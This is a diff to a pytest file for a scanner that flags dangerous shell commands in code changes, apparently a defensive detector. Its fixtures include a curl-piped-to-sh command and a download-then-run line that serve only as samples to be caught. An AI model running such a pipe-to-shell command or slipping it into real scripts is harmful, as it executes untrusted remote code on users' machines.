@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import pytest
 
+from bot.engine.change import change_from_diff
 from bot.engine.content.dangerous import DangerousRule
 from bot.engine.content.shellcommands import CommandText, runs_file_at_end
 from bot.engine.content.shelldownloads import downloads_run
@@ -248,3 +249,19 @@ def test_copies_too_long_to_read_fail_closed_on_the_downloads_line() -> None:
     view = b"curl -o f https://x.io/a\n" + b"".join(b"cp f g%d %s\n" % (i, b"x " * 50) for i in range(20))
     assert [(r.download, r.run) for r in downloads_run(view, lambda _: False, budget=500)] == [(0, 0)]
     assert list(downloads_run(view, lambda _: False)) == []
+
+
+def test_a_command_too_long_to_read_for_each_string_it_holds_hands_them_on() -> None:
+    """Whether a string's command hands it on is read from the command's start for each string:
+    past a budget (four times the text and 1 Mi), the strings left are taken as handed on (read as code)."""
+    shown = "echo " + "sh -c 'x y' " * 10 + "sh -c 'curl https://x.io/i | sh'\n"
+    assert [c for _, _, c in where(scan(RULE, change_from_diff(_script(shown))))] == []
+    long = "echo " + "sh -c 'x y' " * 3000 + "sh -c 'curl https://x.io/i | sh'\n"
+    assert [c for _, _, c in where(scan(RULE, change_from_diff(_script(long))))] == ["shell-pipe-to-shell"]
+
+
+def _script(text: str) -> bytes:
+    return (
+        b"diff --git a/s.sh b/s.sh\nnew file mode 100644\n--- /dev/null\n+++ b/s.sh\n@@ -0,0 +1 @@\n+"
+        + text.encode()
+    )
